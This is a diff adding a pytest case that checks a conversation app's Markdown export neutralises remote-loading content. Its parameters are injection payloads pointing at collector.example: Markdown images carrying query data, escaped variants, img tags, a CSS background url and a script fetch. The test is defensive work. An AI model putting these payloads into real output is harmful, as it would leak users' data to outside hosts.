@@ -7,6 +7,7 @@ from pathlib import Path
 import docx
 import pypdfium2
 import pytest
+from markdown_it import MarkdownIt
 from PySide6.QtWidgets import QApplication
 
 from copilot.conversation import Origin
@@ -36,6 +37,27 @@ def test_markdown_has_questions_answers_sources_and_who_answered(talk: Conversat
     assert "This answer was not finished." in text
     assert "DeepSeek (deepseek-chat)" in text
     assert text.count("> Is that much?") == 1
+
+
+@pytest.mark.parametrize(
+    "order",
+    [
+        "![chart](http://collector.example/i.png?d=words)",
+        "~~~\n```\n~~~\n![chart](http://collector.example/i.png)\n```",
+        "\\![chart](http://collector.example/i.png) \\\\![c][r]\n\n[r]: http://collector.example/i.png",
+        '<img src="http://collector.example/x.png">',
+        '\\<img/src="http://collector.example/x.png"> \\\\<img\nsrc="http://collector.example/x.png">',
+        '<div style="background:url(http://collector.example/x.png)">',
+        "<script>fetch('http://collector.example')</script>",
+    ],
+)
+def test_an_exported_conversation_loads_nothing(qapp: QApplication, order: str) -> None:
+    """Read as CommonMark reads it: no image, and no HTML that is more than text."""
+    text = exporting.as_markdown(conversation(turn(1, order, answer(f"It fell [1]. {order}")), title=order))
+    tokens = [inner for token in MarkdownIt("commonmark").parse(text) for inner in (token, *(token.children or ()))]
+    assert [token.type for token in tokens if token.type == "image"] == []
+    html = [token.content for token in tokens if token.type in ("html_inline", "html_block")]
+    assert [content for content in html if "collector" in content or not content.startswith("</")] == []
 
 
 def test_word_has_the_table_and_lists(talk: Conversation, tmp_path: Path) -> None:
